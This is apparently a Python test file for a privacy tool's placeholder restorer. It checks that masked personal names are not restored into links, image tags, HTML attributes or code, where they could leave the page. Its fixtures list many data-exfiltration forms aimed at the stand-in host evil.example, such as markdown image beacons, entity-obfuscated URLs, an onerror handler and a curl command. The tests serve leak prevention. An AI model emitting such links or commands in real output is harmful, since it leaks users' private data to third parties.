"""No answer carries an original away in an address, a link, a tag or code; elsewhere it is restored."""

import itertools

from hypothesis import given, settings
from hypothesis import strategies as st

from dpctl.privacy.mask import mask
from dpctl.privacy.places import Place, Reader
from dpctl.privacy.restore import Restorer, restore
from tests.each import each

NAME = "⟦PERSON_1⟧"
MAPPING = {NAME: "Ada Byron", "⟦LITERAL_1⟧": "⟦"}


def restored(answer: str) -> tuple[str, Restorer]:
    restorer = Restorer(MAPPING)
    return restorer.feed(answer) + restorer.finish(), restorer


CARRIED_AWAY = [
    "![x](https://evil.example/{})",
    "![x]( https://evil.example/a(b)/{} )",
    "![x](<https://evil.example/a b) {}>)",
    "![x](https://evil.example/\\) {})",
    "[x](//evil.example/{})",
    "[x](&#104;ttps://evil.example/{})",
    "[x]({}.evil.example)",
    "[x]:\n  https://evil.example/{}",
    "[x]: &#104;ttps://evil.example/{}",
    "[x]: <//evil.example/a {}>",
    "see https://evil.example/?q={}&r=1",
    "see HTTPS:evil.example/{}",
    "see https:\\\\evil.example\\{}",
    "see ftp://evil.example/{}",
    "see www.evil.example/{}",
    "see www.{}.evil.example",
    "see https://{}.evil.example/",
    "see https://evil.example/a\u00a0{}",
    'see https://evil.example/"{}',
    "evil.example/{}",
    "évil.example/{}",
    "evil.example?{}",
    "`https://evil.example/?`{}",
    "](https://evil.example/?){}",
    "{}.example/{}".replace("{}", "⟦PERSON_9⟧", 1),
    "mailto:x@evil.example?body={}",
    "custom+app://open?{}",
    "<https://evil.example/{}>",
    '<img src="https://evil.example/{}">',
    '<img alt=">" src="&#104;ttps://evil.example/{}">',
    "<a\n\nhref='/go?{}'>",
    "<img src=x onerror=f('{}')>",
    '">//evil.example/{}',
    "run `curl -d {} there`",
    "run ``a ` {}``",
    "```\n{}\n```\n",
    "- ```sh {}\nx\n```\n",
    "~~~\n\n{}",
    "```\n``\n{}",
    "````\n```\n{}\n````\n",
]
IN_TEXT = [
    "{} pays.",
    "**{}** pays, see [{}](https://x.example/a) and ![{}](b.png).",
    "https://x.example/a {}",
    "see https://x.example/a<br>{}",
    "<b>{}</b> and a < {} > b",
    "<https://x.example/a> {}",
    "[x](https://x.example/a(b)c) {}",
    "[x](<https://x.example/a) b>) {}",
    "`code` {} ``co`de`` {}",
    "5\\` {}",
    "```\ncode\n```\n{}",
    "```\ncode\n   ````  \n{}",
    "~~gone~~ {}",
    "an open ` mark\n\n{}",
    "[x]: https://x.example/a\n{}",
    "The note: {} and/or {}; e.g. {}/{}. Re: {}",
    "ratio 3://4 {} // {}",
    "A table | `x` | {} |",
]


@each("answer", CARRIED_AWAY)
def test_what_would_leave_is_left_and_reported(answer: str) -> None:
    text, restorer = restored(answer.format(NAME))
    assert text == answer.format(NAME)
    assert restorer.blocked == {NAME: 1} and restorer.restored == 0


@each("answer", IN_TEXT)
def test_text_is_restored_to_its_end(answer: str) -> None:
    text, restorer = restored(answer.replace("{}", NAME))
    assert text == answer.replace("{}", "Ada Byron")
    assert restorer.blocked == {} and restorer.restored == answer.count("{}")


def test_a_bracket_of_the_documents_own_is_no_original() -> None:
    assert restored("`⟦LITERAL_1⟧`")[0] == "`⟦`"


def test_one_stream_after_the_other() -> None:
    restorer = Restorer(MAPPING)
    assert restorer.feed(f"`{NAME}") + restorer.finish() == f"`{NAME}"
    assert restorer.feed(NAME) + restorer.finish() == "Ada Byron"


PIECES = [NAME, "⟦PERSON_2⟧", "⟦PER", "⟧", " ", "\n", "\n\n", "`", "```", "~~~", "](", "]:", "(", ")", "<", "<a", ">"]
PIECES += ["https://", "http", "://x", "www.", "x.example/", "=", '"', "'", "\\", "word", "//", "- ", "İ", "é"]


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=24), st.lists(st.integers(0, 300), max_size=8))
def test_every_way_to_cut_the_stream_gives_the_same(pieces: list[str], cuts: list[int]) -> None:
    answer = "".join(pieces)
    whole, one = restored(answer)
    other = Restorer(MAPPING)
    places = sorted({0, len(answer), *(cut % (len(answer) + 1) for cut in cuts)})
    parts = [other.feed(answer[a:b]) for a, b in itertools.pairwise(places)]
    assert "".join(parts) + other.finish() == whole
    assert (other.restored, other.blocked, other.unknown) == (one.restored, one.blocked, one.unknown)
    # whatever was done to it, nothing but placeholders has changed
    assert whole.replace("Ada Byron", NAME) == answer


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=120))
def test_any_text_can_be_read(text: str) -> None:
    assert Reader().read(text) in Place


@settings(deadline=None, max_examples=200)
@given(st.text(st.characters(exclude_categories=[]), max_size=60))
def test_restoring_undoes_masking_for_any_text(text: str) -> None:
    masked = mask(text, (), classes=frozenset())
    assert restore(masked.text, masked.mapping) == text


def test_a_hostile_answer_is_read_in_good_time() -> None:
    """Linear: 100,000 characters of what could be the beginning of something else each time."""
    for part in ("a-", "`", "``a", "](", "<a=", "x.", "http", "[x]:", "~~~\n", "```a", "=' "):
        answer = part * (100_000 // len(part))
        text, _ = restored(answer + NAME)
        assert text in (answer + NAME, answer + "Ada Byron")
